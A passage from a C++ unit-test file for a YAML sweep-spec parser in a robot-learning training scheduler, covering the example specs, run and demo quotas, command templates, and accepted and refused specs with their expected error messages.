// Unit tests of the sweep-spec parser and validator (docs/sweep-spec.md).
#include "scheduler/spec/spec_parser.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <functional>
#include <random>
#include <string>
#include <string_view>
#include <vector>

#include "absl/status/status.h"
#include "absl/strings/escaping.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/str_join.h"
#include "scheduler/spec/sweep_spec.h"
#include "tests/support/example_specs.h"
#include "workers/command_render.h"

namespace mixsweep::spec {
namespace {

using ::testing::Contains;
using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::MatchesRegex;
using ::testing::Not;
using ::testing::Pair;
using ::testing::StartsWith;
using ::testing::UnorderedElementsAre;
using ::testing::ValuesIn;

// The documented examples themselves (embedded at build time).
constexpr const char* kPickDualBottles = mixsweep::testing::kPickDualBottlesYaml;

constexpr const char* kRankRgbBlocks = mixsweep::testing::kRankRgbBlocksYaml;

// A compact valid spec whose line numbers the bad cases below rely on.
constexpr char kBase[] = R"yaml(version: 1
task:
  name: pick_dual_bottles
  rubric:
    milestones:
      - {name: first_bottle_grasped, score: 0.5}
      - {name: both_bottles_lifted, score: 1}
policy: diffusion_policy
teleop:
  dataset: {uri: "file:///data/teleop", episodes: 200}
  n_tele: [50, 100, 200]
sources:
  - name: sim
    kind: simulation
    dataset: {uri: "file:///data/sim", episodes: 1000}
    n_nt: [0, 1000]
seeds: [0, 1, 2]
protocol: {total_steps: 13000, pretrain_steps: 10000, finetune_steps: 3000}
evaluation:
  scenarios: [in_domain, unseen_background]
templates:
  train: {argv: [python, train.py, "data={dataset}", "steps={steps}"]}
  pretrain: {argv: [python, train.py, "data={dataset}", "steps={steps}"]}
  finetune: {argv: [python, train.py, "data={dataset}", "init={init_checkpoint}"]}
)yaml";

std::vector<std::string> Lines(std::string_view text) {
  std::vector<std::string> lines;
  size_t start = 0;
  while (start < text.size()) {
    size_t end = text.find('\n', start);
    if (end == std::string_view::npos) end = text.size();
    lines.emplace_back(text.substr(start, end - start));
    start = end + 1;
  }
  return lines;
}

// `base` with lines [first, last] (1-based) replaced by `text` ("" drops them).
std::string EditText(std::string_view base, int first, int last, std::string_view text) {
  std::vector<std::string> lines = Lines(base);
  std::string out;
  for (int i = 1; i <= static_cast<int>(lines.size()); ++i) {
    if (i == first && !text.empty()) absl::StrAppend(&out, std::string(text), "\n");
    if (i >= first && i <= last) continue;
    absl::StrAppend(&out, lines[i - 1], "\n");
  }
  return out;
}
std::string Edit(int first, int last, std::string_view text) {
  return EditText(kBase, first, last, text);
}
std::string Edit(int line, std::string_view text) { return Edit(line, line, text); }
// kBase with `text` added at the end (from line 25 on).
std::string Append(std::string_view text) {
  return absl::StrCat(kBase, std::string(text), "\n");
}

std::string Message(const absl::Status& status) { return std::string(status.message()); }

// Every line of an error is `line L: field.path: what is wrong`.
void ExpectWellFormed(const std::string& message) {
  for (const std::string& line : Lines(message)) {
    EXPECT_THAT(line, MatchesRegex("line [0-9]+: [^ ]+: .+")) << message;
  }
}

TEST(SpecParserTest, BaseSpecIsValid) {
  auto parsed = ParseSweepSpec(kBase);
  ASSERT_TRUE(parsed.ok()) << parsed.status();
  EXPECT_EQ(CountRuns(parsed->spec), 18);
}

// ---------------------------------------------------------------------------
// The two documented examples.

TEST(SpecParserTest, PickDualBottlesParsesToExpectedValues) {
  auto parsed = ParseSweepSpec(kPickDualBottles);
  ASSERT_TRUE(parsed.ok()) << parsed.status();
  const SweepSpec& s = parsed->spec;
  EXPECT_EQ(parsed->yaml, kPickDualBottles);
  EXPECT_EQ(s.version, 1);
  EXPECT_EQ(s.name, "pick-dual-bottles-sim");
  EXPECT_EQ(s.task.name, "pick_dual_bottles");
  EXPECT_EQ(s.task.rubric.kind, RubricKind::kMilestones);
  ASSERT_EQ(s.task.rubric.entries.size(), 2u);
  EXPECT_EQ(s.task.rubric.entries[0].name, "first_bottle_grasped");
  EXPECT_EQ(s.task.rubric.entries[0].value, 0.5);
  EXPECT_EQ(s.task.rubric.entries[1].name, "both_bottles_lifted");
  EXPECT_EQ(s.task.rubric.entries[1].value, 1.0);
  EXPECT_EQ(s.policy, "diffusion_policy");
  EXPECT_EQ(s.code_version, "git:4f1c2e9");

  EXPECT_EQ(s.teleop.dataset.uri, "file:///data/aloha-agilex/pick_dual_bottles/teleop");
  EXPECT_EQ(s.teleop.dataset.content_hash,
            "sha256:9b2f0c7e5d41a8f3c6e2b7d9a0f1e4c38b5a6d7e9f0a1b2c3d4e5f60718293a4");
  EXPECT_EQ(s.teleop.dataset.episodes, 200);
  EXPECT_EQ(s.teleop.cost_per_demo_hours, 0.02);
  EXPECT_THAT(s.teleop.n_tele, ElementsAre(50, 100, 200));

  ASSERT_EQ(s.sources.size(), 1u);
  const Source& sim = s.sources[0];
  EXPECT_EQ(sim.name, "sim");
  EXPECT_EQ(sim.kind, SourceKind::kSimulation);
  EXPECT_EQ(sim.dataset.uri, "file:///data/robotwin2/pick_dual_bottles/sim");
  EXPECT_EQ(sim.dataset.episodes, 1000);
  EXPECT_EQ(sim.cost_per_demo_hours, 0.000625);
  EXPECT_THAT(sim.n_nt, ElementsAre(0, 1000));
  EXPECT_FALSE(sim.templates.pretrain.has_value());
  EXPECT_FALSE(sim.templates.finetune.has_value());

  EXPECT_THAT(s.seeds, ElementsAre(0, 1, 2));
  EXPECT_EQ(s.protocol.total_steps, 13000);
  EXPECT_EQ(s.protocol.pretrain_steps, 10000);
  EXPECT_EQ(s.protocol.finetune_steps, 3000);

  EXPECT_EQ(s.evaluation.trials_per_scenario, 10);
  ASSERT_EQ(s.evaluation.scenarios.size(), 3u);
  EXPECT_EQ(s.evaluation.scenarios[0].name, "in_domain");
  EXPECT_EQ(s.evaluation.scenarios[1].name, "unseen_background");
  EXPECT_EQ(s.evaluation.scenarios[2].name, "unseen_position");
  for (const Scenario& scenario : s.evaluation.scenarios) {
    EXPECT_EQ(scenario.trials, 10);
    EXPECT_EQ(scenario.platform, "");
  }

  ASSERT_TRUE(s.templates.train.has_value());
  const CommandTemplate& train = *s.templates.train;
  EXPECT_FALSE(train.uses_shell());
  EXPECT_THAT(train.argv,
              ElementsAre("python", "train.py",
                          "--config-name=train_diffusion_unet_real_image_workspace",
                          "task.dataset_path={dataset}",
                          "+task.dataset.episode_manifest={subset_manifest}",
                          "training.max_train_steps={steps}", "training.seed={seed}",
                          "hydra.run.dir={output_dir}", "logging.name={job_id}"));
  EXPECT_THAT(train.env, UnorderedElementsAre(Pair("WANDB_MODE", "offline"),
                                              Pair("HYDRA_FULL_ERROR", "1")));
  EXPECT_EQ(train.checkpoint, "{output_dir}/checkpoints/latest.ckpt");
  EXPECT_THAT(train.no_retry_exit_codes, ElementsAre(2));
  ASSERT_TRUE(s.templates.pretrain.has_value());
  EXPECT_EQ(s.templates.pretrain->argv, train.argv);  // same script, other dataset
  ASSERT_TRUE(s.templates.finetune.has_value());
  EXPECT_THAT(s.templates.finetune->argv, Contains("+training.init_checkpoint={init_checkpoint}"));

  EXPECT_EQ(s.resources.gpus, 1);
  EXPECT_EQ(s.resources.min_gpu_memory_gib, 0.0);
  EXPECT_TRUE(s.resources.labels.empty());
  EXPECT_EQ(s.costs.gpu_hour_price, 2.5);
  EXPECT_EQ(s.costs.collection_hour_price, 40.0);
  EXPECT_EQ(s.costs.currency, "USD");
  EXPECT_EQ(s.priority, 0);
  EXPECT_EQ(s.max_attempts, 3);
  EXPECT_FALSE(s.baseline_from_sweep.has_value());

  EXPECT_TRUE(s.has_own_baseline());
  // SPEC.md: 3 N_tele x (baseline + sim 1000) x 3 seeds.
  EXPECT_EQ(CountRuns(s), 18);
}

TEST(SpecParserTest, RankRgbBlocksParsesItemsOfOneThird) {
  auto parsed = ParseSweepSpec(kRankRgbBlocks);
  ASSERT_TRUE(parsed.ok()) << parsed.status();
  const SweepSpec& s = parsed->spec;
  EXPECT_EQ(s.task.name, "rank_rgb_blocks");
  EXPECT_EQ(s.task.rubric.kind, RubricKind::kItems);
  ASSERT_EQ(s.task.rubric.entries.size(), 3u);
  double sum = 0;
  for (const RubricEntry& e : s.task.rubric.entries) {
    EXPECT_EQ(e.value, 1.0 / 3.0);  // exact: the fraction, not 0.33
    sum += e.value;
  }
  EXPECT_EQ(sum, 1.0);
  EXPECT_THAT(s.teleop.n_tele, ElementsAre(100, 300, 500));
  EXPECT_EQ(s.teleop.dataset.episodes, 500);

  ASSERT_EQ(s.sources.size(), 2u);
  EXPECT_EQ(s.sources[0].kind, SourceKind::kSimulation);
  EXPECT_THAT(s.sources[0].n_nt, ElementsAre(0, 1000));
  const Source& human = s.sources[1];
  EXPECT_EQ(human.name, "human");
  EXPECT_EQ(human.kind, SourceKind::kHumanVideo);
  EXPECT_THAT(human.n_nt, ElementsAre(500));

  // The human source's own pretrain wins; sim falls back to the sweep's.
  auto human_pretrain = s.TemplateFor("pretrain", &human);
  ASSERT_TRUE(human_pretrain.has_value());
  EXPECT_EQ(human_pretrain->argv[2], "--config-name=pretrain_human_video_48d");
  auto sim_pretrain = s.TemplateFor("pretrain", &s.sources[0]);
  ASSERT_TRUE(sim_pretrain.has_value());
  EXPECT_EQ(sim_pretrain->argv[2], "--config-name=train_diffusion_unet_real_image_workspace");
  // The sweep's finetune is the shell form.
  auto sim_finetune = s.TemplateFor("finetune", &s.sources[0]);
  ASSERT_TRUE(sim_finetune.has_value());
  EXPECT_TRUE(sim_finetune->uses_shell());
  EXPECT_TRUE(sim_finetune->argv.empty());
  EXPECT_THAT(sim_finetune->shell, HasSubstr("+training.init_checkpoint={init_checkpoint}"));
  EXPECT_THAT(sim_finetune->shell, Not(HasSubstr("\n")));  // folded scalar

  ASSERT_EQ(s.evaluation.scenarios.size(), 3u);
  EXPECT_EQ(s.evaluation.scenarios[2].name, "unseen_position");
  EXPECT_EQ(s.evaluation.scenarios[2].trials, 10);
  EXPECT_EQ(s.evaluation.scenarios[2].platform, "aloha-agilex-2.0");
  EXPECT_EQ(s.resources.min_gpu_memory_gib, 24.0);
  // 3 N_tele x (baseline + sim 1000 + human 500) x 3 seeds.
  EXPECT_EQ(CountRuns(s), 27);
}

// ---------------------------------------------------------------------------
// Counting, baselines and template resolution.

TEST(SpecParserTest, BaselineFromEarlierSweepIsNotCounted) {
  // No n_nt 0 and no train template: the baseline ran in sweep 12.
  std::string yaml = Edit(16, "    n_nt: [1000, 500]");
  yaml = absl::StrCat(yaml, "baseline_from_sweep: 12\n");
  std::vector<std::string> lines = Lines(yaml);
  lines.erase(lines.begin() + 21);  // templates.train
  auto parsed = ParseSweepSpec(absl::StrJoin(lines, "\n"));
  ASSERT_TRUE(parsed.ok()) << parsed.status();
  EXPECT_FALSE(parsed->spec.has_own_baseline());
  EXPECT_EQ(parsed->spec.baseline_from_sweep, 12);
  EXPECT_FALSE(parsed->spec.TemplateFor("train", nullptr).has_value());
  EXPECT_EQ(CountRuns(parsed->spec), 3 * 2 * 3);
}

TEST(SpecParserTest, CountRunsSumsMixedPointsOverSources) {
  SweepSpec spec;
  spec.teleop.n_tele = {50, 100};
  spec.seeds = {0, 1, 2, 3};
  spec.sources.resize(2);
  spec.sources[0].n_nt = {0, 100, 1000};
  spec.sources[1].n_nt = {500};
  EXPECT_EQ(CountRuns(spec), 2 * (1 + 2 + 1) * 4);
  spec.sources[0].n_nt = {100};
  EXPECT_EQ(CountRuns(spec), 2 * 2 * 4);
  EXPECT_EQ(CountRuns(SweepSpec{}), 0);
}

CommandTemplate Program(std::string name) {
  CommandTemplate t;
  t.argv = {std::move(name)};
  return t;
}

TEST(SpecParserTest, TemplateForPrefersTheSourceOverride) {
  SweepSpec spec;
  spec.templates.pretrain = Program("sweep");
  Source own;
  own.templates.pretrain = Program("own");
  Source plain;
  EXPECT_EQ(spec.TemplateFor("pretrain", &own)->argv[0], "own");
  EXPECT_EQ(spec.TemplateFor("pretrain", &plain)->argv[0], "sweep");
  EXPECT_EQ(spec.TemplateFor("pretrain", nullptr)->argv[0], "sweep");
  EXPECT_FALSE(spec.TemplateFor("finetune", &own).has_value());
  EXPECT_FALSE(spec.TemplateFor("generate", &own).has_value());
}

// A quota, not a malformed spec: RESOURCE_EXHAUSTED with the count and the
// limit (it was INVALID_ARGUMENT before issue 5).
TEST(SpecParserTest, RunLimitIsAQuotaWithCountAndLimit) {
  auto parsed = ParseSweepSpec(kPickDualBottles, SpecLimits{.max_runs = 17});
  ASSERT_FALSE(parsed.ok());
  EXPECT_EQ(parsed.status().code(), absl::StatusCode::kResourceExhausted);
  EXPECT_EQ(Message(parsed.status()),
            "line 1: (root): the sweep expands to 18 runs (3 N_tele values x "
            "(1 baseline + 1 mixed) x 3 seeds), more than the limit of 17 runs per sweep; "
            "submit a smaller sweep and extend it later");
  EXPECT_TRUE(ParseSweepSpec(kPickDualBottles, SpecLimits{.max_runs = 18}).ok());
}

// The quota is reported once the spec is otherwise valid: a spec with a
// problem hears about the problem (INVALID_ARGUMENT), not the quota.
TEST(SpecParserTest, QuotasComeAfterEveryOtherProblem) {
  auto parsed = ParseSweepSpec(Append("priority: 5000"), SpecLimits{.max_runs = 1});
  ASSERT_FALSE(parsed.ok());
  EXPECT_EQ(parsed.status().code(), absl::StatusCode::kInvalidArgument);
  EXPECT_THAT(Message(parsed.status()), HasSubstr("line 25: priority:"));
  EXPECT_THAT(Message(parsed.status()), Not(HasSubstr("runs")));
}

// Pick Dual Bottles trains on 3 seeds x ((1 baseline + 1 mixed) x (50 + 100
// + 200) teleop demos + 1000 pretrain demos) = 5100 demos.
TEST(SpecParserTest, SubsetEpisodesAreAQuota) {
  auto parsed = ParseSweepSpec(kPickDualBottles);
  ASSERT_TRUE(parsed.ok()) << parsed.status();
  EXPECT_EQ(CountSubsetEpisodes(parsed->spec), 5100);
  EXPECT_TRUE(ParseSweepSpec(kPickDualBottles, SpecLimits{.max_subset_episodes = 5100}).ok());
  auto over = ParseSweepSpec(kPickDualBottles, SpecLimits{.max_subset_episodes = 5099});
  ASSERT_FALSE(over.ok());
  EXPECT_EQ(over.status().code(), absl::StatusCode::kResourceExhausted);
  EXPECT_EQ(Message(over.status()),
            "line 1: (root): the sweep's jobs train on 5100 demos in all (the sum of N over its "
            "jobs), more than the limit of 5099 per sweep (each is listed in a subset "
            "manifest); use smaller N or fewer seeds");
  // The default quota (10,000,000) is met long before memory runs out: 1000
  // N values of 1,000,000 demos each, which every per-value check accepts.
  std::string n_tele = "n_tele: [";
  for (int i = 0; i < 1000; ++i) absl::StrAppend(&n_tele, i ? ", " : "", 1000000 - i);
  auto huge = ParseSweepSpec(Edit(10, 11, "  dataset: {uri: \"file:///data/teleop\", episodes: "
                                          "1000000}\n  " + n_tele + "]"));
  ASSERT_FALSE(huge.ok());
  EXPECT_EQ(huge.status().code(), absl::StatusCode::kResourceExhausted) << huge.status();
}

TEST(SpecParserTest, CountSubsetEpisodesSaturates) {
  SweepSpec spec;
  spec.teleop.n_tele = {INT64_MAX / 2, INT64_MAX / 2, INT64_MAX / 2};
  spec.sources.push_back({.name = "sim", .n_nt = {0, INT64_MAX}});
  spec.seeds = {0, 1};
  EXPECT_EQ(CountSubsetEpisodes(spec), INT64_MAX);
}

// Before issue 5 a valid spec could ask for a subset of 10^15 demos, which
// the server tried to allocate while expanding it (std::bad_alloc, or with
// N = 10^9 gigabytes). No N beyond 1,000,000 demos per job gets that far.
TEST(SpecParserTest, DemosPerJobAreCapped) {
  auto parsed = ParseSweepSpec(
      Edit(10, 11, "  dataset: {uri: \"file:///data/teleop\", episodes: 1000000000000000}\n"
                   "  n_tele: [50, 1000000000000000]"));
  ASSERT_FALSE(parsed.ok());
  EXPECT_EQ(parsed.status().code(), absl::StatusCode::kInvalidArgument);
  EXPECT_THAT(Message(parsed.status()),
              HasSubstr("line 11: teleop.n_tele[1]: 1000000000000000 demos; at most 1000000 per "
                        "job (its subset manifest lists every episode)"));
  EXPECT_TRUE(ParseSweepSpec(Edit(10, 11, "  dataset: {uri: \"file:///data/teleop\", episodes: "
                                          "2000000}\n  n_tele: [1000000]"))
                  .ok());
  // Stored specs are read back without the newer rules.
  EXPECT_TRUE(ParseSweepSpec(
                  Edit(10, 11, "  dataset: {uri: \"file:///data/teleop\", episodes: 3000000}\n"
                               "  n_tele: [2000000]"),
                  SpecLimits::ForStoredSpecs())
                  .ok());
}

TEST(SpecParserTest, PlaceholdersByStage) {
  for (const char* stage : {"train", "pretrain", "finetune"}) {
    for (const char* name : {"dataset", "dataset_hash", "subset_manifest", "n_demos", "steps",
                             "seed", "output_dir", "gpu", "job_id", "sweep_id",
                             "code_version", "policy", "task", "resume_checkpoint"}) {
      EXPECT_TRUE(IsKnownPlaceholder(name, stage)) << name << " in " << stage;
    }
  }
  // A shared pretrain serves several runs: it has no single {run_id}.
  EXPECT_TRUE(IsKnownPlaceholder("run_id", "train"));
  EXPECT_TRUE(IsKnownPlaceholder("run_id", "finetune"));
  EXPECT_FALSE(IsKnownPlaceholder("run_id", "pretrain"));
  EXPECT_TRUE(IsKnownPlaceholder("init_checkpoint", "finetune"));
  EXPECT_FALSE(IsKnownPlaceholder("init_checkpoint", "pretrain"));
  EXPECT_FALSE(IsKnownPlaceholder("init_checkpoint", "train"));
  EXPECT_FALSE(IsKnownPlaceholder("datset", "train"));
  EXPECT_FALSE(IsKnownPlaceholder("dataset", "evaluate"));
}

// ---------------------------------------------------------------------------
// Specs that must be accepted.

struct GoodCase {
  std::string name;
  std::string yaml;
};

void PrintTo(const GoodCase& c, std::ostream* os) { *os << c.name; }

class GoodSpecTest : public ::testing::TestWithParam<GoodCase> {};

TEST_P(GoodSpecTest, Parses) {
  auto parsed = ParseSweepSpec(GetParam().yaml);
  EXPECT_TRUE(parsed.ok()) << parsed.status();
}

std::vector<GoodCase> GoodCases() {
  return {
      {"GpusZeroForCpuOnlyJobs", Append("resources: {gpus: 0}")},
      {"NoMixedRunsNeedNoSplit", Edit(16, 18, "    n_nt: [0]\nseeds: [0]\n"
                                              "protocol: {total_steps: 13000}")},
      {"LiteralBraces", Edit(22, "  train: {argv: [sh, -c, 'echo ${{HOME}} {{x}}', '{seed}']}")},
      {"FinetuneInitInEnv",
       Edit(24, "  finetune: {argv: [python, ft.py], env: {INIT: '{init_checkpoint}'}}")},
      {"FinetuneInitInShell",
       Edit(24, "  finetune: {shell: 'python ft.py --init={init_checkpoint} | cat'}")},
      {"SourceOverrideReplacesMissingSweepTemplate",
       EditText(Edit(23, ""), 16, 16,
                "    n_nt: [0, 1000]\n    templates: {pretrain: {argv: [pre, '{dataset}']}}")},
      {"DecimalThirdsWithinTolerance",
       Edit(5, 7, "    items:\n      - {name: r, weight: 0.3333333}\n"
                  "      - {name: g, weight: 0.3333333}\n      - {name: b, weight: 0.3333334}")},
      {"FractionScores",
       Edit(6, 7, "      - {name: a, score: 1/2}\n      - {name: b, score: 3/3}")},
      {"ScenarioMapForm",
       Edit(20, "  scenarios: [in_domain, {name: unseen_position, trials: 20, platform: x}]")},
      {"CommentsAndAnchors",
       Edit(22, 23, "  train: &t {argv: [python, train.py, '{dataset}']}  # shared\n"
                    "  pretrain: *t")},
      {"DocumentMarkers", absl::StrCat("---\n", kBase, "...\n")},
      {"NegativePriority", Append("priority: -1000\nmax_attempts: 100")},
      {"Costs", Append("costs: {gpu_hour_price: 0, collection_hour_price: 40.5, currency: EUR}")},
      {"Labels", Append("resources: {labels: {robot-lab: a, zone: ''}}")},
      {"Utf8Text", Append("name: \"caf\\u00e9 \xe2\x9c\x93\"")},
  };
}

INSTANTIATE_TEST_SUITE_P(Specs, GoodSpecTest, ValuesIn(GoodCases()),
                         [](const auto& info) { return info.param.name; });

// ---------------------------------------------------------------------------
// Specs that must be refused, each with the line and field named.

struct BadCase {
  std::string name;
  std::string yaml;
  std::string where;  // "line L: field.path:"
  std::string what;   // part of the message after it
};

void PrintTo(const BadCase& c, std::ostream* os) { *os << c.name; }

class BadSpecTest : public ::testing::TestWithParam<BadCase> {};

TEST_P(BadSpecTest, NamesLineFieldAndProblem) {
  const BadCase& c = GetParam();
  auto parsed = ParseSweepSpec(c.yaml);
  ASSERT_FALSE(parsed.ok()) << c.yaml;
  EXPECT_EQ(parsed.status().code(), absl::StatusCode::kInvalidArgument);
  std::string message = Message(parsed.status());
  ExpectWellFormed(message);
  bool found = false;
  for (const std::string& line : Lines(message)) {
    found |= line.rfind(c.where + " ", 0) == 0 && line.find(c.what) != std::string::npos;
  }
  EXPECT_TRUE(found) << "want a line starting '" << c.where << "' containing '" << c.what
                     << "'; got:\n" << message;
}

std::vector<BadCase> BadCases() {
  const std::string long_name(200, 'a');
  return {
      // Structure: unknown keys, missing fields, types, syntax.
      {"UnknownTopLevelKey", Append("polcy: x"), "line 25: polcy:",
       "unknown key 'polcy'; did you mean 'policy'?"},
      {"UnknownNestedKey", Edit(11, "  n_tele: [50, 100, 200]\n  n_tel: [1]"),
       "line 12: teleop.n_tel:", "unknown key 'n_tel'"},
      {"UnknownKeyInTemplate", Edit(22, "  train: {argv: [python], chekpoint: x}"),
       "line 22: templates.train.chekpoint:", "did you mean 'checkpoint'?"},
      {"TrainTemplateInSource",
       Edit(16, "    n_nt: [0, 1000]\n    templates: {train: {argv: [x]}}"),
       "line 17: sources[0].templates.train:", "expected one of: pretrain, finetune"},
      {"DuplicateKey", Append("policy: other"), "line 25: policy:", "duplicate key"},
      {"NonStringKey", Append("? [a]\n: 1"), "line 25: (root):", "keys must be strings"},
      {"MissingPolicy", Edit(8, ""), "line 1: policy:", "missing required field"},
      {"MissingEpisodes", Edit(10, "  dataset: {uri: \"file:///data/teleop\"}"),
       "line 10: teleop.dataset.episodes:", "missing required field"},
      {"EmptyValue", Edit(8, "policy:"), "line 8: policy:", "expected a string, got nothing"},
      {"SeedsNotAList", Edit(17, "seeds: zero"), "line 17: seeds:", "expected a list, got 'zero'"},
      {"SourcesAMap", Edit(12, 16, "sources: {name: sim}"), "line 12: sources:",
       "expected a list, got a map"},
      {"SyntaxError", Edit(11, "  n_tele: [50, 100"), "line 12: (yaml):", "YAML syntax error"},
      {"BadIndentation", Edit(11, "    n_tele: [50]"), "line 11: (yaml):", "YAML syntax error"},
      {"TwoDocuments", Append("---\nversion: 1"), "line 25: (yaml):",
       "more than one YAML document"},
      // Version.
      {"VersionMissing", Edit(1, ""), "line 1: version:", "missing required field"},
      {"VersionTwo", Edit(1, "version: 2"), "line 1: version:", "unsupported version 2"},
      {"VersionQuoted", Edit(1, "version: \"1\""), "line 1: version:",
       "expected an integer, got the quoted string '1'"},
      // Protocol.
      {"StepsDoNotAddUp",
       Edit(18, "protocol: {total_steps: 13000, pretrain_steps: 9000, finetune_steps: 3000}"),
       "line 18: protocol.pretrain_steps:",
       "pretrain_steps + finetune_steps (9000 + 3000) must equal total_steps (13000)"},
      {"TotalStepsZero", Edit(18, "protocol: {total_steps: 0}"), "line 18: protocol.total_steps:",
       "must be at least 1"},
      {"PretrainStepsZeroWithMixedRuns",
       Edit(18, "protocol: {total_steps: 13000, pretrain_steps: 0, finetune_steps: 13000}"),
       "line 18: protocol.pretrain_steps:", "must be > 0"},
      {"SplitMissingWithMixedRuns", Edit(18, "protocol: {total_steps: 13000}"),
       "line 18: protocol.finetune_steps:", "missing required field"},
      {"NegativeSteps",
       Edit(16, 18, "    n_nt: [0]\nseeds: [0]\n"
                    "protocol: {total_steps: 10, pretrain_steps: -5, finetune_steps: 15}"),
       "line 18: protocol.pretrain_steps:", "must be >= 0, got -5"},
      {"StepsOverflow",
       Edit(18, "protocol: {total_steps: 1, pretrain_steps: 9223372036854775807, "
                "finetune_steps: 9223372036854775807}"),
       "line 18: protocol.pretrain_steps:", "must equal total_steps (1)"},
      // N lists and seeds.
      {"NegativeN", Edit(11, "  n_tele: [50, -100, 200]"), "line 11: teleop.n_tele[1]:",
       "must be >= 0, got -100"},
      {"DuplicateN", Edit(16, "    n_nt: [0, 1000, 1000]"), "line 16: sources[0].n_nt[2]:",
       "duplicate value 1000 (also at sources[0].n_nt[1])"},
      {"FractionalN", Edit(11, "  n_tele: [50, 1.5]"), "line 11: teleop.n_tele[1]:",
       "expected an integer, got '1.5'"},
      {"StringN", Edit(11, "  n_tele: [50, \"100\"]"), "line 11: teleop.n_tele[1]:",
       "expected an integer, got the quoted string '100'"},
      {"HugeN", Edit(11, "  n_tele: [99999999999999999999999]"), "line 11: teleop.n_tele[0]:",
       "out of range"},
      {"EmptyNTele", Edit(11, "  n_tele: []"), "line 11: teleop.n_tele:", "must not be empty"},
      {"ZeroNTele", Edit(11, "  n_tele: [0, 50]"), "line 11: teleop.n_tele[0]:",
       "0 is not allowed"},
      {"NTeleBeyondEpisodes", Edit(11, "  n_tele: [50, 201]"), "line 11: teleop.n_tele[1]:",
       "201 demos are more than the dataset's 200 episodes (teleop.dataset.episodes)"},
      {"NntBeyondEpisodes", Edit(16, "    n_nt: [0, 2000]"), "line 16: sources[0].n_nt[1]:",
       "more than the dataset's 1000 episodes"},
      {"EpisodesZero", Edit(15, "    dataset: {uri: \"file:///data/sim\", episodes: 0}"),
       "line 15: sources[0].dataset.episodes:", "must be at least 1"},
      {"DuplicateSeeds", Edit(17, "seeds: [0, 1, 1]"), "line 17: seeds[2]:", "duplicate seed 1"},
      {"NegativeSeed", Edit(17, "seeds: [0, -1]"), "line 17: seeds[1]:",
       "must be between 0 and 4294967295, got -1"},
      // Sources.
      {"DuplicateSourceNames",
       Edit(16, "    n_nt: [0, 1000]\n  - name: sim\n    kind: human_video\n"
                "    dataset: {uri: x, episodes: 10}\n    n_nt: [5]"),
       "line 17: sources[1].name:", "duplicate source name 'sim' (also at sources[0])"},
      {"SourceNameNotIdentifier", Edit(13, "  - name: Sim"), "line 13: sources[0].name:",
       "'Sim' is not a valid name"},
      {"SourceNameTeleop", Edit(13, "  - name: teleop"), "line 13: sources[0].name:",
       "'teleop' is reserved"},
      {"SourceNameBaseline", Edit(13, "  - name: baseline"), "line 13: sources[0].name:",
       "'baseline' is reserved"},
      {"UnknownSourceKind", Edit(14, "    kind: sim"), "line 14: sources[0].kind:",
       "unknown kind 'sim' (expected simulation or human_video)"},
      {"NegativeCostPerDemo", Edit(11, "  n_tele: [50]\n  cost_per_demo_hours: -0.5"),
       "line 12: teleop.cost_per_demo_hours:", "must be >= 0"},
      {"InfiniteCostPerDemo", Edit(16, "    n_nt: [0]\n    cost_per_demo_hours: .inf"),
       "line 17: sources[0].cost_per_demo_hours:", "must be a finite number, got '.inf'"},
      // Rubric.
      {"RubricBothKinds", Edit(7, "      - {name: both_bottles_lifted, score: 1}\n"
                                  "    items: [{name: a, weight: 1}]"),
       "line 4: task.rubric:", "give exactly one of milestones"},
      {"RubricNeither", Edit(5, 7, "    stages: []"), "line 4: task.rubric:",
       "give exactly one of milestones"},
      {"RubricEmpty", Edit(5, 7, "    milestones: []"), "line 5: task.rubric.milestones:",
       "must not be empty"},
      {"RubricDuplicateNames", Edit(7, "      - {name: first_bottle_grasped, score: 1}"),
       "line 7: task.rubric.milestones[1].name:", "duplicate name 'first_bottle_grasped'"},
      {"MilestonesNotIncreasing", Edit(7, "      - {name: b, score: 0.5}"),
       "line 7: task.rubric.milestones[1].score:", "must increase strictly"},
      {"MilestonesNotEndingAtOne", Edit(7, "      - {name: b, score: 0.9}"),
       "line 7: task.rubric.milestones[1].score:", "the last stage must score 1"},
      {"MilestoneAboveOne", Edit(7, "      - {name: b, score: 1.5}"),
       "line 7: task.rubric.milestones[1].score:", "must be in (0, 1]"},
      {"ItemsNotSummingToOne",
       Edit(5, 7, "    items:\n      - {name: r, weight: 0.33}\n      - {name: g, weight: 0.33}\n"
                  "      - {name: b, weight: 0.33}"),
       "line 5: task.rubric.items:", "weights must sum to 1"},
      {"ItemWeightZero", Edit(5, 7, "    items:\n      - {name: r, weight: 0}\n"
                                    "      - {name: g, weight: 1}"),
       "line 6: task.rubric.items[0].weight:", "must be in (0, 1]"},
      {"FractionOverZero", Edit(5, 7, "    items: [{name: r, weight: 1/0}]"),
       "line 5: task.rubric.items[0].weight:", "fraction"},
      // Baseline.
      {"NoBaseline", Edit(16, "    n_nt: [1000]"), "line 12: sources:", "no teleop-only baseline"},
      {"AmbiguousBaseline", Append("baseline_from_sweep: 12"), "line 25: baseline_from_sweep:",
       "ambiguous baseline"},
      {"BaselineSweepIdZero", Edit(16, "    n_nt: [1000]\nbaseline_from_sweep: 0"),
       "line 17: baseline_from_sweep:", "must be at least 1"},
      // Templates.
      {"TrainTemplateMissing", Edit(22, ""), "line 21: templates.train:",
       "missing: the sweep runs teleop-only baseline runs"},
      {"PretrainTemplateMissing", Edit(23, ""), "line 21: templates.pretrain:",
       "missing: sources[0] list n_nt > 0"},
      {"NoTemplatesAtAll", Edit(21, 24, ""), "line 1: templates.finetune:", "missing"},
      {"ArgvAndShell", Edit(22, "  train: {argv: [python], shell: 'python x'}"),
       "line 22: templates.train:", "give exactly one of argv"},
      {"NeitherArgvNorShell", Edit(22, "  train: {env: {A: b}}"), "line 22: templates.train:",
       "give exactly one of argv"},
      {"EmptyArgv", Edit(22, "  train: {argv: []}"), "line 22: templates.train.argv:",
       "must not be empty"},
      {"EmptyProgram", Edit(22, "  train: {argv: ['', x]}"), "line 22: templates.train.argv[0]:",
       "must not be empty"},
      {"UnknownPlaceholder", Edit(22, "  train: {argv: [python, train.py, '{datset}']}"),
       "line 22: templates.train.argv[2]:", "unknown placeholder {datset}"},
      {"InitCheckpointInPretrain",
       Edit(23, "  pretrain: {argv: [python, train.py, '{init_checkpoint}']}"),
       "line 23: templates.pretrain.argv[2]:", "{init_checkpoint} is only available in finetune"},
      {"UnbalancedOpen", Edit(22, "  train: {argv: [python, 'data={dataset']}"),
       "line 22: templates.train.argv[1]:", "unbalanced '{'"},
